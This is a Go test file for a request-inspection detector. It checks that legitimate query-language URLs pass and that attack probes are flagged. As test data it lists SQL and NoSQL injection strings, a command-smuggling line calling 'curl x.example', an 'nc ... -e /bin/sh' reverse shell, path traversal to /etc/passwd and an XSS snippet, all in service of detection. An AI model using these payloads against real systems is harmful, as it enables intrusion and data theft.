package payload

import "testing"

// Interfaces that are asked in a query language get whole statements and expressions. What
// leaves its statement, or asks for more than a table, is none of them.
func TestQueryLanguages(t *testing.T) {
	for _, tt := range []struct {
		target string
		probe  bool
	}{
		{"/query?db=m&q=SELECT+%22value%22+FROM+%22cpu%22+WHERE+%22region%22%3D'us-west'+AND+time+%3E+now()+-+6h+GROUP+BY+time(30s)+fill(null)", false}, // InfluxDB
		{"/?query=SELECT+count()+FROM+events+WHERE+date+%3D+today()+FORMAT+JSON", false},                                                                // ClickHouse
		{"/services/data/v58.0/query?q=SELECT+Id,Name+FROM+Account+WHERE+Name+LIKE+'Acme%25'+LIMIT+10", false},                                          // Salesforce
		{"/index.php?route=/sql&sql_query=SELECT+*+FROM+%60orders%60+WHERE+%60id%60+%3D+5", false},                                                      // phpMyAdmin
		{"/query?q=SHOW+RETENTION+POLICIES+ON+telegraf", false},
		{"/people?select=full_name:name,salary::text,directors(id,last_name)", false},                 // PostgREST
		{"/parse/classes/Score?where=%7B%22score%22:%7B%22$gte%22:1000,%22$lte%22:3000%7D%7D", false}, // Parse
		{"/find?criteria=%7B%22age%22:%7B%22$in%22:[20,21]%7D%7D", false},
		{"/api/v1/query?query=count(up+%3D%3D+1)+or+vector(0)", false}, // Prometheus
		{"/api/v1/query?query=rate(foo%7Bpath!~%22/(health|metrics)%22%7D[5m])+and+on(instance)+up", false},
		{"/api/v1/query?query=100+*+(1+-+avg(rate(node_cpu_seconds_total%7Bmode%3D%22idle%22%7D[1m])))", false},
		{"/qgis?REQUEST=GetFeature&EXP_FILTER=%22population%22+%3E+10000+AND+%22name%22+LIKE+'A%25'", false},
		{"/plugins/gitiles/repo/+/refs/heads/main/etc/passwd.template", false},                // Gerrit
		{"/api/v4/projects/12/repository/files/etc%2Fnginx%2Fnginx.conf/raw?ref=HEAD", false}, // GitLab
		{"/query?q=SELECT+name+FROM+t+WHERE+id%3D1+UNION+SELECT+password+FROM+users", true},
		{"/query?q=SELECT+a+FROM+t+WHERE+b%3D''+OR+''%3D''", true},
		{"/query?q=SELECT+a+FROM+t;DROP+TABLE+t", true},
		{"/query?q=SELECT+load_file('/x')+FROM+t", true},
		{"/query?q=SELECT+table_name+FROM+information_schema.tables", true},
		{"/item?id=SELECT+a+FROM+t+WHERE+b%3D1", true}, // no interface takes it there
		{"/item?q=1+OR+EXISTS(SELECT+a+FROM+t)", true},
		{"/list?select=name::text,(select+1)::text", true},
		{"/login?where=%7B%22password%22:%7B%22$gt%22:%22a%22%7D%7D", true},
		{"/find?criteria=%7B%22id%22:%7B%22$gt%22:%22%22%7D%7D", true}, // anything at all
		{"/find?criteria=%7B%22id%22:%7B%22$ne%22:null%7D%7D", true},
		{"/find?criteria=%7B%22$where%22:%22sleep(1)%22%7D", true},
		{"/loki/api/v1/query?query=%7Bapp%3D%22x%22%7D+|=+%22error%22+or+%22failed%22+|+status+%3E=+500", false}, // Loki
		{"/api/v1/query?query=label_replace(up%7Bjob%3D'a'%7D,%22host%22,%22$1%22,%22instance%22,%22(.*):.*%22)+or+vector(0)", false},
		{"/query?q=SELECT+mean(%22v%22)+FROM+%22cpu%22+WHERE+%22host%22+%3D~+/%5E(a|+b)$/+GROUP+BY+time(30s)", false},
		{"/find?created=%7B%22$gte%22:%222026-01-01%22%7D", false}, {"/find?q2=%7B%22$and%22:[%7B%22a%22:1%7D,%7B%22b%22:%7B%22$gt%22:10%7D%7D]%7D", false},
		{"/api/v1/query?query=1+or+1%3D1", true},
		// dressed up: in strings, behind them, and as a comment
		{"/x?query=x%7Ba%3D%22b%22%7D'+or+'1'%3D'1", true},
		{"/x?query=x%7Ba%3D%22b%22%7D%22+or+%221%22%3D%221", true},
		{"/x?query=%7Ba%3D%22+or+1%3D1+or+%22%7D", true},
		{"/x?query=(%22+or+1%3D1+or+%22)%7Ba%3D%22b%22%7D", true},
		{"/x?query=1+or+1%3D1+%23+%7Ba%3D%22b%22%7D", true},
		{"/x?query=x'+or+1%3D1+or+'%7Ba%3D%22b%22%7D'+%3D+'", true},
		{"/x?query=1+and+1%3D2+offset+5m", true},
		// commands behind a statement
		{"/x?q=show+tables+$(id)", true},
		{"/x?q=show+tables+||+curl+x.example/a", true},
		{"/x?q=select+a+from+b+where+c%3D%60cat+x%60", true},
		{"/x?q=select+a+from+b+where+c+|+nc+192.0.2.1+4444+-e+/bin/sh", true},
		// a field that may be anything but what nobody sent
		{"/x?pin=%7B%22$ne%22:%220%22%7D", true}, {"/x?id=%7B%22$gt%22:%22%20%22%7D", true}, {"/x?name=%7B%22$nin%22:[%22x%22]%7D", true},
		{"/x?filter=%7B%22$or%22:[%7B%7D,%7B%22a%22:1%7D]%7D", true},
		{"/api/v1/query?query=up+or+1%3D1--+%7Ba%3D%22b%22%7D", true},
		{"/repository/files/../../../etc/passwd", true}, {"/repository/files/.git/config", true}, {"/x/+/refs/../../etc/passwd", true}, // no file of a branch
	} {
		if r := Inspect([]byte(tt.target)); Hostile(&r) != tt.probe {
			t.Errorf("%s: class %q, stage %d, want probe %v", tt.target, r.Class, r.Stage, tt.probe)
		}
	}
}

// People look for the words of languages, with signs and versions among them.
func TestQuestionsAboutLanguages(t *testing.T) {
	for _, value := range []string{"like+%25+in+sql", "exec+sp_executesql+parameters", "chmod+777+directory", "<script+setup>+vue+3", "insert+into+select+example"} {
		if r := Inspect([]byte("/search?q=" + value)); Hostile(&r) {
			t.Errorf("%q: class %q, stage %d, want no probe", value, r.Class, r.Stage)
		}
	}
	for _, target := range []string{"/x?cmd=rm+-rf+directory", "/x?exec=chmod+777+folder"} { // nobody asks there
		if r := Inspect([]byte(target)); !Hostile(&r) {
			t.Errorf("%q: class %q, stage %d, want a probe", target, r.Class, r.Stage)
		}
	}
	for _, value := range []string{"<script+src>alert(1)</script>+vue+3", "like+'%25'+in+sql", "1+or+1=1+sql", "1+union+select+3"} {
		if r := Inspect([]byte("/search?q=" + value)); !Hostile(&r) {
			t.Errorf("%q: class %q, stage %d, want a probe", value, r.Class, r.Stage)
		}
	}
}
